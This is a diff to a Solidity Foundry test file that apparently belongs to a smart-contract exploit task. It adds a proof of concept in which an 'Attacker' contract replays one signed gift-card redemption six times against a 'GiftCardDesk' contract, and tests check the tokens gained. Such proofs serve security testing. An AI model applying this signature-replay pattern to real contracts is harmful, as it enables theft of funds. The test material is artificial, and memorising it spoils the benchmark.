@@ -71,6 +71,8 @@ contract Proof {
         redeem(2, 70, ANA, 1_000);
         desk.suspend(2);
         mallory = new Attacker(desk);
+        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, desk.digest(1, 6, address(mallory), 1_000));
+        mallory.keep(v, r, s);
     }
 
     function redeem(uint256 id, uint256 card, address to, uint128 n) private {
@@ -144,9 +146,10 @@ contract Proof {
         desk.redeem(1, 7, ANA, 251, v, r, s);
         vm.expectRevert(BadSig.selector);
         desk.redeem(2, 7, ANA, 250, v, r, s);
-        desk.redeem(1, 7, ANA, 250, v, r, s);
+        (v, r, s) = vm.sign(KEY, desk.digest(1, 1, ANA, 250));
+        desk.redeem(1, 1, ANA, 250, v, r, s);
         vm.expectRevert(Used.selector);
-        desk.redeem(1, 7, ANA, 250, v, r, s);
+        desk.redeem(1, 1, ANA, 250, v, r, s);
         (v, r, s) = vm.sign(KEY, desk.digest(1, 8, ANA, 5_751));
         vm.expectRevert(Short.selector);
         desk.redeem(1, 8, ANA, 5_751, v, r, s);
@@ -177,6 +180,15 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 4_000, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.again();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 6_000, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(desk);
     }
@@ -188,9 +200,20 @@ contract Proof {
 
 contract Attacker {
     GiftCardDesk private desk;
+    uint8 private v;
+    bytes32 private r;
+    bytes32 private s;
 
     constructor(GiftCardDesk d) {
         desk = d;
+    }
+
+    function keep(uint8 v_, bytes32 r_, bytes32 s_) external {
+        (v, r, s) = (v_, r_, s_);
+    }
+
+    function again() external {
+        for (uint256 i; i < 6; ++i) desk.redeem(1, 6, address(this), 1_000, v, r, s);
     }
 
     function run() external {
